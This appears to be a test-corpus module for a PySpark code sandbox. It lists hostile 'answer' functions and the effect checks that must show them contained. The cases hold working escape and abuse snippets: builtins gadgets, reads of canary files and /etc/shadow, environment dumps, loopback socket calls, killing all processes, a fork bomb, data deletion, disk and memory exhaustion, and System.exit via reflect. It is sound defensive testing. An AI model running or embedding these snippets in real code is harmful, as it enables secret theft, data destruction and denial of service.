"""The hostile-code corpus: generated code that tries to get out, as data.

Each :class:`Case` is a whole ``def answer(spark, tables)`` module with placeholders (``{CANARY_PATH}``,
``{PORT}``, ``{MARKER_PATH}``, ... see :meth:`Context.placeholders`) that ``tests/test_hostile.py``
fills in per test, and it is run twice:

1. through the validator, which must reject it with ``rule`` (``None``: the code is valid by the policy,
   so the sandbox is the only wall; then the validator must let it through, documenting exactly that);
2. straight through the sandbox with validation off. The ``effects`` are checked by effects, never by
   messages: the canary file's text and the canary environment value never show up in the result or
   the logs, the loopback listeners receive nothing, marker paths stay absent on the host, the data is
   unchanged, a later job does not see catalog objects or settings the hostile one made, the host's
   processes and disk space come back. ``outcome`` says what the Execution must be: ``fails`` (not ok,
   with a clear Failure), or ``harmless`` (the sandbox makes the attempt harmless, so the code may still
   return a DataFrame; a clear failure is fine too).

Cases that exhaust resources come last (and the server-killing ones at the very end): each is followed
by a known-good job that must still answer.
"""

from __future__ import annotations

import json
import re
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Literal

from askspark.engines.base import Execution

ENV_NAME = "ASKSPARK_CANARY_SECRET"
GIB = 1024**3
MIB = 1024**2
PROCESS_SLACK = 40  # processes the engine may legitimately add (a spare worker, Spark's Python workers)


@dataclass(frozen=True)
class HostState:
    """What the host looks like, to compare before and after a case."""

    processes: int
    disk_free: int  # bytes free on the filesystem of the engine's directory
    leftovers: int  # bytes under the engine's staging directories (outbox, scratch)
    data: dict[str, tuple[int, str]]  # the orders table's files: relative path -> (size, sha256)
    server_pid: int | None


@dataclass
class Context:
    """One case's world: the values of the placeholders and the host's state before the run."""

    tmp: Path
    canary_path: Path
    canary_text: str
    canary_env: str
    marker_path: Path
    marker_dir: Path
    jar_path: Path
    port: int
    abstract_name: str
    token: str
    home: Path
    engine_dir: Path
    orders_path: Path
    shuffle_default: str
    events: list[str]  # what the loopback listeners received
    before: HostState
    snapshot: Callable[[], HostState]
    probe: dict[str, Any] = field(default_factory=dict)  # what the known-good job after the case saw
    probe_seconds: float = 0.0

    @property
    def outbox_root(self) -> Path:
        return self.engine_dir / "outbox"

    def placeholders(self) -> dict[str, str]:
        return {
            "CANARY_PATH": str(self.canary_path),
            "MARKER_PATH": str(self.marker_path),
            "MARKER_DIR": str(self.marker_dir),
            "JAR_PATH": str(self.jar_path),
            "PORT": str(self.port),
            "ABSTRACT": self.abstract_name,
            "TOKEN": self.token,
            "HOME": str(self.home),
            "OUTBOX_ROOT": str(self.outbox_root),
            "ORDERS_PATH": str(self.orders_path),
            "ENV_NAME": ENV_NAME,
        }

    def render(self, code: str) -> str:
        return render(code, self.placeholders())


def render(code: str, values: dict[str, str]) -> str:
    """``code`` with its ``{PLACEHOLDERS}`` filled in (plain replacement: the code's own braces stay)."""
    for key, value in values.items():
        code = code.replace("{" + key + "}", value)
    left = re.findall(r"\{[A-Z][A-Z_]+\}", code)
    assert not left, f"unknown placeholders {left}"
    return code


# Plausible values, for validating the corpus without a sandbox.
SAMPLE_VALUES = {
    "CANARY_PATH": "/tmp/hostile/secret/canary.txt",
    "MARKER_PATH": "/tmp/hostile/markers/hostile.marker",
    "MARKER_DIR": "/tmp/hostile/spark-out",
    "JAR_PATH": "/tmp/hostile/hostile-0.jar",
    "PORT": "40000",
    "ABSTRACT": "askspark-hostile-0",
    "TOKEN": "t0",
    "HOME": "/tmp/hostile/home",
    "OUTBOX_ROOT": "/tmp/hostile/home/engine/outbox",
    "ORDERS_PATH": "/tmp/hostile/home/warehouse/northwind/orders",
    "ENV_NAME": ENV_NAME,
}


Effect = Callable[[Context, Execution], None]


@dataclass(frozen=True)
class Case:
    id: str
    code: str
    rule: str | None  # the validator rule that rejects it; None: valid code, only the sandbox stops it
    outcome: Literal["fails", "harmless"]
    effects: tuple[Effect, ...]
    timeout: float = 10.0


# --- effect checks ------------------------------------------------------------------------------


def shown(ex: Execution) -> str:
    """Everything a run hands back: rows, logs, error message and suggestion."""
    parts = [ex.logs]
    if ex.result is not None:
        parts.append(json.dumps(ex.result.rows, default=str))
    if ex.error is not None:
        parts += [ex.error.message, ex.error.suggestion or ""]
    return "\n".join(parts)


def rows_text(ex: Execution) -> str:
    return json.dumps(ex.result.rows, default=str) if ex.result is not None else ""


def eventually(check: Callable[[], bool], seconds: float = 45.0) -> bool:
    """Whether ``check`` becomes true within ``seconds`` (the engine reaps workers in the background)."""
    deadline = time.monotonic() + seconds
    while True:
        if check():
            return True
        if time.monotonic() > deadline:
            return False
        time.sleep(0.5)


def no_canary_file(ctx: Context, ex: Execution) -> None:
    assert ctx.canary_text not in shown(ex), "the canary file's content reached the result or the logs"


def no_canary_env(ctx: Context, ex: Execution) -> None:
    assert ctx.canary_env not in shown(ex), "the canary environment value reached the result or the logs"


def no_connection(ctx: Context, ex: Execution) -> None:
    assert not ctx.events, f"the loopback listeners were reached: {ctx.events}"


def no_marker(ctx: Context, ex: Execution) -> None:
    for path in (ctx.marker_path, ctx.marker_path.parent):
        assert not path.exists(), f"{path} was created on the host"


def no_marker_dir(ctx: Context, ex: Execution) -> None:
    assert not ctx.marker_dir.exists(), f"{ctx.marker_dir} was created on the host"


def data_unchanged(ctx: Context, ex: Execution) -> None:
    assert ctx.snapshot().data == ctx.before.data, "the orders table's files changed"


def no_result(ctx: Context, ex: Execution) -> None:
    assert ex.result is None, f"the code got to return rows: {rows_text(ex)[:200]}"


def timed_out(ctx: Context, ex: Execution) -> None:
    assert ex.error is not None and ex.error.kind in ("timeout", "out_of_memory"), (
        f"expected a timeout (or the memory limit), got {ex.error.kind if ex.error else 'success'}"
    )


def answers_quickly(ctx: Context, ex: Execution) -> None:
    assert ctx.probe_seconds < 30, (
        f"the next job took {ctx.probe_seconds:.0f} s: the hostile work kept running"
    )


def processes_settle(ctx: Context, ex: Execution) -> None:
    limit = ctx.before.processes + PROCESS_SLACK
    assert eventually(lambda: ctx.snapshot().processes <= limit), (
        f"the host has {ctx.snapshot().processes} processes, {ctx.before.processes} before the case"
    )


def disk_recovered(ctx: Context, ex: Execution) -> None:
    def recovered() -> bool:
        now = ctx.snapshot()
        return (
            now.disk_free >= ctx.before.disk_free - 1.5 * GIB
            and now.leftovers <= ctx.before.leftovers + 64 * MIB
        )

    if not eventually(recovered):
        now = ctx.snapshot()
        raise AssertionError(
            f"disk space did not come back: free dropped by {(ctx.before.disk_free - now.disk_free) / GIB:.2f} GiB, "
            f"staging grew by {(now.leftovers - ctx.before.leftovers) / MIB:.0f} MiB"
        )


def server_survives(ctx: Context, ex: Execution) -> None:
    assert ctx.snapshot().server_pid == ctx.before.server_pid, (
        "the Spark server was killed (it was restarted)"
    )


SHADOW_LINE = re.compile(r"\b[a-z_][a-z0-9_-]*:[^:\s]*:\d*:\d*:\d*:")  # name:hash:lastchg:min:max:


def shadow_not_leaked(ctx: Context, ex: Execution) -> None:
    assert not SHADOW_LINE.search(rows_text(ex)), "the rows hold /etc/shadow entries"


def catalog_db_not_leaked(ctx: Context, ex: Execution) -> None:
    text = shown(ex)
    assert "SQLite format 3" not in text and b"SQLite format 3".hex() not in text, (
        "the catalog database leaked"
    )


def not_listed(key: str, name: str) -> Effect:
    """The known-good job after the case does not see ``name`` (``{TOKEN}`` filled in) under ``key``."""

    def check(ctx: Context, ex: Execution) -> None:
        wanted = name.replace("{TOKEN}", ctx.token).lower()
        seen = [str(n).lower() for n in ctx.probe.get(key, [])]
        assert not any(wanted in n for n in seen), f"a later job still sees {wanted!r} in {key}: {seen}"

    check.__name__ = f"not_listed_{key}"
    return check


def host_path_absent(name: str) -> Effect:
    """Nothing at ``name`` (a placeholder template) on the host, after the engine had time to clean up."""

    def check(ctx: Context, ex: Execution) -> None:
        path = Path(ctx.render(name))
        assert eventually(lambda: not path.exists(), 10), f"{path} exists on the host"

    check.__name__ = "host_path_absent"
    return check


def shuffle_unchanged(ctx: Context, ex: Execution) -> None:
    assert ctx.probe.get("shuffle") == ctx.shuffle_default, (
        f"a later job sees spark.sql.shuffle.partitions={ctx.probe.get('shuffle')}, not {ctx.shuffle_default}"
    )


WAREHOUSE_LEFTOVERS = host_path_absent("{HOME}/engine/spark-warehouse")


# --- the corpus ---------------------------------------------------------------------------------

ROW = 'spark.createDataFrame([(str(leak),)], "leak string")'

CASES: list[Case] = [
    # imports through gadgets
    Case(
        "gadget-dunder-import",
        """
def answer(spark, tables):
    os = __import__("os")
    code = os.system('mkdir -p "$(dirname {MARKER_PATH})" && touch {MARKER_PATH}')
    return spark.createDataFrame([(code,)], "rc int")
""",
        "forbidden-builtin",
        "harmless",
        (no_marker,),
    ),
    Case(
        "gadget-getattr-eval",
        f"""
def answer(spark, tables):
    b = __builtins__
    ev = b["ev" + "al"] if isinstance(b, dict) else getattr(b, "ev" + "al")
    leak = ev("open('{{CANARY_PATH}}').read()")
    return {ROW}
""",
        "forbidden-builtin",
        "fails",
        (no_canary_file,),
    ),
    Case(
        "gadget-function-globals",
        f"""
def answer(spark, tables):
    b = answer.__globals__["__builtins__"]
    reader = b["open"] if isinstance(b, dict) else b.open
    leak = reader("{{CANARY_PATH}}").read()
    return {ROW}
""",
        "dunder-access",
        "fails",
        (no_canary_file,),
    ),
    Case(
        "gadget-subclasses",
        f"""
def answer(spark, tables):
    leak = "no gadget"
    for cls in ().__class__.__base__.__subclasses__():
        if cls.__name__ == "_wrap_close":
            leak = cls.__init__.__globals__["popen"]("cat {{CANARY_PATH}}; env").read()
    return {ROW}
""",
        "dunder-access",
        "harmless",
        (no_canary_file, no_canary_env),
    ),
    Case(
        "gadget-importlib",
        f"""
import importlib

def answer(spark, tables):
    leak = dict(importlib.import_module("os").environ)
    return {ROW}
""",
        "import-not-allowed",
        "harmless",
        (no_canary_env,),
    ),
    Case(
        "gadget-import-builtins",
        f"""
import builtins

def answer(spark, tables):
    leak = builtins.open("{{CANARY_PATH}}").read()
    return {ROW}
""",
        "import-not-allowed",
        "fails",
        (no_canary_file,),
    ),
    Case(
        "gadget-typing-sys-modules",
        """
import typing

def answer(spark, tables):
    os = typing.sys.modules["os"]
    code = os.system('mkdir -p "$(dirname {MARKER_PATH})" && touch {MARKER_PATH}')
    return spark.createDataFrame([(code,)], "rc int")
""",
        "import-not-allowed",
        "harmless",
        (no_marker,),
    ),
    Case(
        "gadget-json-codecs",
        f"""
import json

def answer(spark, tables):
    leak = json.codecs.open("{{CANARY_PATH}}").read()
    return {ROW}
""",
        "import-not-allowed",
        "fails",
        (no_canary_file,),
    ),
    Case(
        "gadget-attrgetter",
        f"""
import operator
import typing

def answer(spark, tables):
    sys = operator.attrgetter("sys")(typing)
    leak = dict(sys.modules["os"].environ)
    return {ROW}
""",
        "forbidden-call",
        "harmless",
        (no_canary_env,),
    ),
    Case(
        "gadget-exec-string",
        """
def answer(spark, tables):
    ns = {}
    exec("leak = op" + "en(" + repr("{CANARY_PATH}") + ").read()", ns)
    return spark.createDataFrame([(ns["leak"],)], "leak string")
""",
        "forbidden-builtin",
        "fails",
        (no_canary_file,),
    ),
    # files outside the data, read with Python
    Case(
        "file-python-open",
        f"""
def answer(spark, tables):
    leak = open("{{CANARY_PATH}}").read()
    return {ROW}
""",
        "forbidden-builtin",
        "fails",
        (no_canary_file,),
    ),
    Case(
        "file-python-walk",
        f"""
import os

def answer(spark, tables):
    found = []
    for root, dirs, files in os.walk("/"):
        dirs[:] = [d for d in dirs if os.path.join(root, d) not in ("/proc", "/sys", "/dev", "/usr")
                   and "site-packages" not in d]
        for name in files:
            if "canary" in name:
                try:
                    with open(os.path.join(root, name)) as f:
                        found.append(f.read())
                except OSError as exc:
                    found.append(str(exc))
    leak = found
    return {ROW}
""",
        "import-not-allowed",
        "harmless",
        (no_canary_file,),
        timeout=15,
    ),
    # files outside the data, read with Spark
    Case(
        "file-spark-read-text",
        """
def answer(spark, tables):
    return spark.read.text("{CANARY_PATH}")
""",
        "file-access",
        "fails",
        (no_canary_file,),
    ),
    Case(
        "file-spark-read-shadow",
        """
def answer(spark, tables):
    return spark.read.text("/etc/shadow")
""",
        "file-access",
        "fails",
        (shadow_not_leaked,),
    ),
    Case(
        "file-sql-on-path",
        """
def answer(spark, tables):
    return spark.sql("SELECT * FROM text.`{CANARY_PATH}`")
""",
        "file-access",
        "fails",
        (no_canary_file,),
    ),
    Case(
        "file-spark-table-on-path",
        """
def answer(spark, tables):
    return spark.table("text.`{CANARY_PATH}`")
""",
        "file-access",
        "fails",
        (no_canary_file,),
    ),
    Case(
        "file-spark-read-catalog-db",
        """
def answer(spark, tables):
    return spark.read.text("{HOME}/catalog.db")
""",
        "file-access",
        "fails",
        (catalog_db_not_leaked,),
    ),
    # environment secrets
    Case(
        "env-os-environ",
        f"""
import os

def answer(spark, tables):
    leak = [os.environ.get("{{ENV_NAME}}"), dict(os.environ)]
    return {ROW}
""",
        "import-not-allowed",
        "harmless",
        (no_canary_env,),
    ),
    Case(
        "env-proc-environ",
        f"""
import os

def answer(spark, tables):
    leak = []
    for pid in [p for p in os.listdir("/proc") if p.isdigit()] + ["self"]:
        try:
            with open(f"/proc/{{pid}}/environ", "rb") as f:
                leak.append(f.read().decode(errors="replace"))
        except OSError as exc:
            leak.append(str(exc))
    return {ROW}
""",
        "forbidden-builtin",
        "harmless",
        (no_canary_env,),
    ),
    # network
    Case(
        "net-urllib-http",
        f"""
import urllib.request

def answer(spark, tables):
    leak = urllib.request.urlopen("http://127.0.0.1:{{PORT}}/leak?secret=x", timeout=3).read()
    return {ROW}
""",
        "import-not-allowed",
        "fails",
        (no_connection,),
    ),
    Case(
        "net-raw-socket",
        f"""
import socket

def answer(spark, tables):
    conn = socket.create_connection(("127.0.0.1", {{PORT}}), timeout=3)
    conn.sendall(b"leak")
    leak = conn.recv(100)
    return {ROW}
""",
        "import-not-allowed",
        "fails",
        (no_connection,),
    ),
    Case(
        "net-dns",
        f"""
import socket

def answer(spark, tables):
    leak = socket.getaddrinfo("example.com", 80)
    return {ROW}
""",
        "import-not-allowed",
        "fails",
        (no_connection, no_result),
    ),
    Case(
        "net-udp-datagram",
        f"""
import socket

def answer(spark, tables):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    query = b"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x04leak\\x07example\\x03com\\x00\\x00\\x01\\x00\\x01"
    leak = s.sendto(query, ("127.0.0.1", {{PORT}}))
    return {ROW}
""",
        "import-not-allowed",
        "harmless",
        (no_connection,),
    ),
    Case(
        "net-abstract-unix-socket",
        f"""
import socket

def answer(spark, tables):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.connect("\\0{{ABSTRACT}}")
    s.sendall(b"leak")
    leak = "connected"
    return {ROW}
""",
        "import-not-allowed",
        "fails",
        (no_connection,),
    ),
    # processes
    Case(
        "proc-subprocess",
        f"""
import subprocess

def answer(spark, tables):
    out = subprocess.run(["sh", "-c", "cat {{CANARY_PATH}}; env"], capture_output=True, text=True)
    leak = out.stdout + out.stderr
    return {ROW}
""",
        "import-not-allowed",
        "harmless",
        (no_canary_file, no_canary_env),
    ),
    Case(
        "proc-os-system",
        """
import os

def answer(spark, tables):
    code = os.system('mkdir -p "$(dirname {MARKER_PATH})" && touch {MARKER_PATH}')
    return spark.createDataFrame([(code,)], "rc int")
""",
        "import-not-allowed",
        "harmless",
        (no_marker,),
    ),
    Case(
        "proc-fork",
        """
import os

def answer(spark, tables):
    pid = os.fork()
    if pid == 0:
        os.makedirs(os.path.dirname("{MARKER_PATH}"), exist_ok=True)
        with open("{MARKER_PATH}", "w") as f:
            f.write("forked")
        os._exit(0)
    os.waitpid(pid, 0)
    return spark.createDataFrame([(pid,)], "child int")
""",
        "import-not-allowed",
        "harmless",
        (no_marker,),
    ),
    Case(
        "proc-kill-everything",
        f"""
import os
import signal

def answer(spark, tables):
    leak = []
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) != os.getpid():
            try:
                os.kill(int(name), signal.SIGKILL)
                leak.append(name)
            except OSError as exc:
                leak.append(f"{{name}}: {{exc}}")
    return {ROW}
""",
        "import-not-allowed",
        "harmless",
        (server_survives, processes_settle),
    ),
    # writes outside the output directory
    Case(
        "write-python-open",
        """
import os

def answer(spark, tables):
    os.makedirs(os.path.dirname("{MARKER_PATH}"), exist_ok=True)
    with open("{MARKER_PATH}", "w") as f:
        f.write("written")
    return spark.createDataFrame([(1,)], "written int")
""",
        "import-not-allowed",
        "harmless",
        (no_marker,),
    ),
    Case(
        "write-spark-text-dir",
        """
def answer(spark, tables):
    tables["orders"].selectExpr("CAST(order_id AS STRING) AS v").write.text("{MARKER_DIR}")
    return tables["orders"].limit(1)
""",
        "write",
        "harmless",
        (no_marker_dir,),
    ),
    Case(
        "write-spark-parquet-engine-staging",
        """
def answer(spark, tables):
    tables["orders"].limit(10).write.mode("overwrite").parquet("{OUTBOX_ROOT}/hostile-{TOKEN}")
    return tables["orders"].limit(1)
""",
        "write",
        "harmless",
        (host_path_absent("{OUTBOX_ROOT}/hostile-{TOKEN}"),),
    ),
    Case(
        "write-spark-overwrite-data",
        """
def answer(spark, tables):
    tables["orders"].limit(1).write.mode("overwrite").parquet("{ORDERS_PATH}")
    return tables["orders"].limit(1)
""",
        "write",
        "fails",
        (data_unchanged,),
    ),
    Case(
        "write-python-delete-data",
        """
import shutil

def answer(spark, tables):
    shutil.rmtree("{ORDERS_PATH}")
    return tables["orders"].limit(1)
""",
        "import-not-allowed",
        "fails",
        (data_unchanged,),
    ),
    # DDL and writes through SQL and the DataFrame API; session state
    Case(
        "sql-create-table",
        """
def answer(spark, tables):
    spark.sql("CREATE TABLE IF NOT EXISTS hostile_t_{TOKEN} USING parquet AS SELECT * FROM orders")
    return spark.table("hostile_t_{TOKEN}")
""",
        "sql-ddl",
        "harmless",
        (not_listed("tables", "hostile_t_{TOKEN}"), WAREHOUSE_LEFTOVERS),
    ),
    Case(
        "sql-create-database",
        """
def answer(spark, tables):
    spark.sql("CREATE DATABASE IF NOT EXISTS hostile_db_{TOKEN}")
    return spark.sql("SHOW DATABASES")
""",
        "sql-ddl",
        "harmless",
        (not_listed("databases", "hostile_db_{TOKEN}"),),
    ),
    Case(
        "sql-dynamic-create-database",
        """
def answer(spark, tables):
    statement = " ".join(["CREATE", "DATABASE", "IF NOT EXISTS", "hostile_dyn_{TOKEN}"])
    spark.sql(statement)
    return tables["orders"].limit(1)
""",
        None,  # dynamic SQL is invisible to the validator by design: the catalog scrub is the wall
        "harmless",
        (not_listed("databases", "hostile_dyn_{TOKEN}"),),
    ),
    Case(
        "sql-drop",
        """
def answer(spark, tables):
    spark.sql("DROP VIEW IF EXISTS orders")
    spark.sql("DROP TABLE IF EXISTS default.orders")
    return tables["orders"].limit(1)
""",
        "sql-ddl",
        "harmless",
        (data_unchanged,),
    ),
    Case(
        "sql-insert",
        """
def answer(spark, tables):
    spark.sql("INSERT INTO orders SELECT * FROM orders")
    return tables["orders"].limit(1)
""",
        "sql-write",
        "harmless",
        (data_unchanged,),
    ),
    Case(
        "sql-insert-overwrite-directory",
        """
def answer(spark, tables):
    spark.sql("INSERT OVERWRITE DIRECTORY '{MARKER_DIR}' USING parquet SELECT * FROM orders")
    return tables["orders"].limit(1)
""",
        "sql-parse",  # sqlglot cannot parse it; the validator fails closed
        "harmless",
        (no_marker_dir,),
    ),
    Case(
        "df-save-as-table",
        """
def answer(spark, tables):
    tables["orders"].write.saveAsTable("hostile_saved_{TOKEN}")
    return spark.table("hostile_saved_{TOKEN}")
""",
        "write",
        "harmless",
        (not_listed("tables", "hostile_saved_{TOKEN}"), WAREHOUSE_LEFTOVERS),
    ),
    Case(
        "conf-set",
        """
def answer(spark, tables):
    spark.conf.set("spark.sql.shuffle.partitions", "1")
    return spark.createDataFrame([(spark.conf.get("spark.sql.shuffle.partitions"),)], "v string")
""",
        "spark-conf-set",
        "harmless",
        (shuffle_unchanged,),
    ),
    Case(
        "sql-set",
        """
def answer(spark, tables):
    return spark.sql("SET spark.sql.shuffle.partitions=1")
""",
        "sql-ddl",
        "harmless",
        (shuffle_unchanged,),
    ),
    Case(
        "sql-add-jar",
        """
def answer(spark, tables):
    spark.sql("ADD JAR {JAR_PATH}")
    return spark.sql("LIST JARS")
""",
        "sql-ddl",
        "harmless",
        (not_listed("jars", "hostile-{TOKEN}"),),
    ),
    Case(
        "sql-create-function",
        """
def answer(spark, tables):
    spark.sql("CREATE FUNCTION IF NOT EXISTS hostile_fn_{TOKEN} AS 'org.apache.spark.sql.hive.HiveGenericUDF'")
    return spark.sql("SHOW USER FUNCTIONS")
""",
        "sql-ddl",
        "harmless",
        (not_listed("functions", "hostile_fn_{TOKEN}"),),
    ),
    Case(
        "sql-global-temp-view",
        """
def answer(spark, tables):
    spark.sql("CREATE OR REPLACE GLOBAL TEMPORARY VIEW hostile_gv_{TOKEN} AS SELECT 'left behind' AS note")
    return spark.sql("SELECT * FROM global_temp.hostile_gv_{TOKEN}")
""",
        "sql-ddl",
        "harmless",
        (not_listed("global_temp", "hostile_gv_{TOKEN}"),),
    ),
    Case(
        "df-global-temp-view",
        """
def answer(spark, tables):
    tables["orders"].createOrReplaceGlobalTempView("hostile_gdf_{TOKEN}")
    return tables["orders"].limit(1)
""",
        "forbidden-call",
        "harmless",
        (not_listed("global_temp", "hostile_gdf_{TOKEN}"),),
    ),
    # UDFs: they run in Python workers spawned by the Spark server, not in our worker
    Case(
        "udf-read-canary",
        """
from pyspark.sql import functions as F

def answer(spark, tables):
    @F.udf("string")
    def leak(x):
        return open("{CANARY_PATH}").read()

    return spark.range(1).select(leak("id").alias("leak"))
""",
        "udf",
        "fails",
        (no_canary_file,),
        timeout=20,
    ),
    Case(
        "udf-socket",
        """
from pyspark.sql import functions as F

def answer(spark, tables):
    @F.udf("string")
    def leak(x):
        import socket
        try:
            socket.create_connection(("127.0.0.1", {PORT}), timeout=3).sendall(b"leak")
            return "connected"
        except OSError as exc:
            return "blocked: " + str(exc)

    return spark.range(1).select(leak("id").alias("leak"))
""",
        "udf",
        "harmless",
        (no_connection,),
        timeout=20,
    ),
    Case(
        "udf-marker-file",
        """
from pyspark.sql import functions as F

def answer(spark, tables):
    @F.udf("string")
    def leak(x):
        import os
        os.makedirs(os.path.dirname("{MARKER_PATH}"), exist_ok=True)
        with open("{MARKER_PATH}", "w") as f:
            f.write("from a udf")
        return "written"

    return spark.range(1).select(leak("id").alias("leak"))
""",
        "udf",
        "harmless",
        (no_marker,),
        timeout=20,
    ),
    # resources
    Case(
        "mem-python-8gb",
        """
def answer(spark, tables):
    hoard = bytearray(8 * 1024 * 1024 * 1024)
    return spark.createDataFrame([(len(hoard),)], "allocated long")
""",
        None,
        "fails",
        (no_result,),
    ),
    Case(
        "mem-bytearray-loop",
        """
def answer(spark, tables):
    hoard = []
    for _ in range(256):  # 16 GiB in 64 MiB pieces (zero-filled, so touched)
        hoard.append(bytearray(64 * 1024 * 1024))
    return spark.createDataFrame([(len(hoard),)], "pieces long")
""",
        None,
        "fails",
        (no_result,),
    ),
    Case(
        "cpu-endless-loop",
        """
def answer(spark, tables):
    n = 0
    while n >= 0:
        n += 1
    return tables["orders"]
""",
        None,
        "fails",
        (timed_out, answers_quickly),
    ),
    Case(
        "disk-fill-tmp",
        """
import os

def answer(spark, tables):
    os.makedirs("/tmp/fill", exist_ok=True)
    piece = b"x" * (64 * 1024 * 1024)
    for i in range(32):  # 2 GiB
        with open(f"/tmp/fill/{i}", "wb") as f:
            f.write(piece)
    return spark.createDataFrame([(32,)], "pieces int")
""",
        "import-not-allowed",
        "harmless",
        (disk_recovered,),
        timeout=15,
    ),
    Case(
        "disk-fill-output-dir",
        """
import os

def answer(spark, tables):
    piece = b"x" * (64 * 1024 * 1024)
    written = 0
    for d in os.listdir("{OUTBOX_ROOT}"):
        target = os.path.join("{OUTBOX_ROOT}", d)
        if not os.access(target, os.W_OK) or not os.path.isdir(target):
            continue
        for i in range(32):  # 2 GiB
            with open(os.path.join(target, f"fill-{i}"), "wb") as f:
                f.write(piece)
            written += len(piece)
    return spark.createDataFrame([(written,)], "bytes long")
""",
        "import-not-allowed",
        "harmless",
        (disk_recovered,),
        timeout=15,
    ),
    Case(
        "fork-bomb",
        """
import os
import time

def answer(spark, tables):
    children = 0
    for _ in range(2000):  # bounded, so a broken sandbox cannot take the machine down
        pid = os.fork()
        if pid == 0:
            time.sleep(30)
            os._exit(0)
        children += 1
    return spark.createDataFrame([(children,)], "forked int")
""",
        "import-not-allowed",
        "fails",
        (no_result, processes_settle),
    ),
    Case(
        "spark-huge-cross-join",
        """
def answer(spark, tables):
    a = spark.range(0, 200000000).withColumnRenamed("id", "x")
    return a.crossJoin(spark.range(0, 200000000)).selectExpr("sum(x * id) AS s")
""",
        None,
        "fails",
        (timed_out, answers_quickly),
    ),
    Case(
        "disk-fill-spark-staging",
        """
def answer(spark, tables):
    big = spark.range(0, 2000000, 1, 8).selectExpr("repeat('x', 1000) AS s")  # 2 GB, bounded
    big.write.mode("overwrite").text("{OUTBOX_ROOT}/fill-{TOKEN}")
    return tables["orders"].limit(1)
""",
        "write",
        "harmless",
        (host_path_absent("{OUTBOX_ROOT}/fill-{TOKEN}"), disk_recovered),
    ),
    # these ended the shared server before its exit guard (engines/java/ExitGuard.java): still last
    Case(
        "spark-collect-huge-range",
        """
def answer(spark, tables):
    rows = spark.range(10**9).collect()
    return spark.createDataFrame([(len(rows),)], "n long")
""",
        None,
        "fails",
        (no_result, server_survives),
    ),
    Case(
        "reflect-system-exit",
        """
def answer(spark, tables):
    return spark.sql("SELECT reflect('java.lang.System', 'exit', 0) AS bye")
""",
        "forbidden-function",
        "harmless",
        (server_survives,),
    ),
    Case(
        # Over a local relation Spark's optimizer evaluates the projection itself, in the server's JVM
        # (not in an executor's): only the exit guard stands between this and the server.
        "reflect-system-exit-driver",
        """
def answer(spark, tables):
    one = spark.createDataFrame([(1,)], "a int")
    return one.selectExpr("reflect('java.lang.System', 'exit', 0) AS bye")
""",
        "forbidden-function",
        "harmless",
        (server_survives,),
    ),
]
